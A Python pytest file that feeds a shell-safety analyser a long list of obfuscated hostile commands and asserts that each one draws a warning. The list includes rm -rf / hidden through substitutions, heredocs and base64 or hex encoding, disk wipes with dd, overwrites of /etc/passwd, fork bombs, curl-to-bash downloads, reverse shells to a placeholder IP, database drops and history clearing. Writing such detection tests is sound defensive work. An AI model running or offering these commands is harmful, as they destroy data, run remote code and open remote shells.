"""Ways to hide a command, from shells' darker corners: none may pass without at least a warning."""

from __future__ import annotations

import pytest
from suture_safety import analyse

HIDDEN = r"""
rm -rf "/" ""
rm -r -f -- /
rm -rf //
ls\n\rm -rf /
x=1\n\n\rm -rf /
ls # why\n\rm -rf /
export A=1\n\rm -rf /
if true\n\rm -rf /\nthen :; fi
a | b | c\nrm -rf / && x
a | b | c # why\n\nrm -rf / || x
$(a | b | c\nrm -rf / && x)
alias rm=true\n\rm -rf /
echo `ls` `rm -rf /`
echo `ls`\necho ` rm -rf /`
while 'true'; do sleep 5; done
:(){ ':'|':'& };:
rm -rf /./
rm -rf /etc/../
[ 1 ] && rm -rf /
coproc rm -rf /
coproc { rm -rf /; }
while :; do rm -rf /; break; done
if [ $(rm -rf /) ]; then :; fi
[[ -n $(rm -rf /) ]]
(( $(rm -rf /) ))
x=$(rm -rf /)
x[$(rm -rf /)]=1
echo ${x:-$(rm -rf /)}
echo "${x:-"$(rm -rf /)"}"
for ((i=$(rm -rf /);i<1;i++)); do :; done
case $(rm -rf /) in a) ;; esac
case x in $(rm -rf /)) ;; esac
cat <<E\n$(rm -rf /)\nE
cat <<< $(rm -rf /)
echo x > $(rm -rf /)
declare x=$(rm -rf /)
export "$(rm -rf /)"
echo "${arr[$(rm -rf /)]}"
let "x=$(rm -rf /)"
unset $(rm -rf /)
f() ( rm -rf / )
function f() if true; then rm -rf /; fi
trap -- 'rm -rf /' 0
PROMPT_COMMAND='rm -rf /'
bash -c "$0" 'rm -rf /'
bash -c '$1' x 'rm -rf /'
bash -c 'rm -rf "$1"' x /
sh -c 'rm -rf "$@"' _ /
set -- rm -rf /; "$@"
mapfile -t a <<< 'rm -rf /'; ${a[0]}
read -r c <<< 'rm -rf /'; $c
read -r a b c <<< 'rm -rf /'; $a $b $c
xargs -I{} sh -c '{}' <<< 'rm -rf /'
echo 'rm -rf /' | xargs -I% bash -c %
echo 'rm -rf /' | xargs -0 sh -c
env -S 'rm -rf /'
timeout -k 5 10 rm -rf /
sudo -- rm -rf /
sudo sh -c 'rm -rf /'
sudo -i <<< 'rm -rf /'
sudo su - <<< 'rm -rf /'
nohup bash -c 'rm -rf /' &
watch -n 1 rm -rf /
watch 'rm -rf /'
parallel rm -rf ::: /
awk 'BEGIN{system("rm -rf /")}'
sed '1e rm -rf /' x
sed -n '1!e rm -rf /' x
tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'
vim -c '!rm -rf /'
find / -delete
find . -exec sh -c 'rm -rf /' \;
git -c alias.x='!rm -rf /' x
perl -e '`rm -rf /`'
ruby -e 'system "rm -rf /"'
node -e 'require("child_process").execSync("rm -rf /")'
php -r 'exec("rm -rf /");'
ssh h <<< 'rm -rf /'
at now <<< 'rm -rf /'
crontab - <<< '* * * * * rm -rf /'
systemd-run rm -rf /
systemd-run -p X=y --unit=a rm -rf /
chroot /x rm -rf /
command -p rm -rf /
builtin eval 'rm -rf /'
exec -a x rm -rf /
../bin/rm -rf /
/usr/bin/env rm -rf /
. <(echo rm -rf /)
source /dev/stdin <<< 'rm -rf /'
bash < <(echo 'rm -rf /')
bash /dev/fd/3 3<<< 'rm -rf /'
a=r;b=m;$a$b -rf /
${x:-rm} -rf /
rm -rf /{bin,etc}
rm -rf /e??
rm -rf /[e]tc
cd /etc && rm -rf .
pushd /; rm -rf *
rm -rf $(echo /)
rm -rf ~root
rm -rf ~
rm -rf "$HOME"
mv / /tmp
: > /etc/passwd
if true; then X=rm; else X=ls; fi; $X -rf /
f() { X=rm; }; f; $X -rf /
f() { echo rm; }; $(f) -rf /
f() { "$@"; }; f rm -rf /
f() { $1 $2 $3; }; f rm -rf /
f() { local c=$1; shift; "$c" "$@"; }; f rm -rf /
f() { f2 "$@"; }; f2() { "$@"; }; f rm -rf /
eval $'\x72\x6d -rf /'
echo -e '\x72m -rf /' | sh
printf '\162\155 -rf /' | sh
echo "rm -rf /" | tee /tmp/a | sh
echo "rm -rf /" > x; . ./x
echo "rm -rf /" > x; chmod +x x; ./x
cat > /tmp/a.sh <<'E'\nrm -rf /\nE\nbash /tmp/a.sh
cat > /tmp/a.sh <<'E'\nrm -rf /\nE\nchmod +x /tmp/a.sh; /tmp/a.sh
tee /tmp/a.sh <<'E'\nrm -rf /\nE\nbash /tmp/a.sh
ls | while read f; do rm -rf /$f; done
dd if=/dev/zero of=$(echo /dev/sda)
D=/dev/sda; dd if=/dev/zero of=$D
cp /dev/zero /dev/sda
cat /dev/zero > /dev/sda
>/dev/sda cat x
exec > /dev/sda
{ cat x; } > /dev/sda
(cat x) > /dev/sda
while read l; do echo $l; done > /dev/sda
for i in 1; do echo; done >/etc/passwd
f() { echo; } > /etc/passwd; f
true > /etc/passwd
ln -sf /tmp/x /etc/passwd
install -m 644 x /etc/passwd
python3 -c 'import os; os.system("rm -rf /")'
python3 <<< 'import os; os.system("rm -rf /")'
echo 'import os; os.system("rm -rf /")' | python3
python3 -c "$(echo 'import os; os.system(\"rm -rf /\")')"
curl x | tee y | bash
curl x > y && bash y
curl -o y x; sh y
wget x; chmod +x y; ./y
bash -c "$(curl x)"
bash -c "`wget -qO- x`"
sh <(wget -qO- x)
curl x | sudo -E bash -
curl x | python3 -
source <(curl x)
eval `curl x`
. <(curl x)
curl x | perl
X=$(curl x); eval "$X"
X=$(curl x); $X
X=$(curl x); bash -c "$X"
curl x | xargs -I{} sh -c '{}'
base64 -d <<< cm0gLXJmIC8= | sh
openssl base64 -d <<< cm0gLXJmIC8= | sh
echo cm0gLXJmIC8= | openssl enc -base64 -d | sh
echo H4sIA | base64 -d | gunzip | sh
sh -c "$(echo cm0gLXJmIC8= | base64 -d)"
echo 'rm -rf /' | at now
echo 'rm -rf /' | ssh host
echo 'rm -rf /' | sudo bash
echo 'rm -rf /' | sudo -u root sh -s
bash -s < /tmp/unknown
bash -i
ksh -c 'rm -rf /'
zsh -c 'rm -rf /'
busybox sh -c 'rm -rf /'
/bin/busybox rm -rf /
docker run --rm -v /:/h alpine rm -rf /h
kubectl exec -it p -- sh -c 'rm -rf /'
kubectl delete namespace prod
kubectl delete -f x.yaml
psql -c "drop table x"
psql -c"drop table x"
psql --command="drop table x"
echo 'drop table x' | psql
psql < <(echo 'drop table x;')
mysql -e'drop table x'
mysql <<< 'drop table x'
sqlite3 a.db 'drop table x'
sqlite3 a.db <<< 'delete from x'
chmod -R 777 /
chmod 0777 /etc/x
chmod a=rwx /etc/x
chmod ugo+rwx x
chown -R nobody /
:(){ :|:& };:
:() { : | : & }; :
b() { b | b & }; b
f() { f & f & }; f
nc -lvnp 1 -e /bin/sh
mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 1 > /tmp/f
0<&196;exec 196<>/dev/tcp/1.2.3.4/1; sh <&196 >&196 2>&196
bash -i >& /dev/tcp/1/2 0>&1
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("1",1));os.dup2(s.fileno(),0);pty.spawn("sh")'
git push -f
git push origin +main
echo 1 > /proc/sys/kernel/sysrq; echo b > /proc/sysrq-trigger
history -c
unset HISTFILE
""".strip().split("\n")


@pytest.mark.parametrize("form", HIDDEN)
def test_no_hidden_command_passes_in_silence(form: str) -> None:
    script = form.replace("\\n", "\n")
    assert [one for one in analyse(script, "bash").findings if one.severity != "info"]
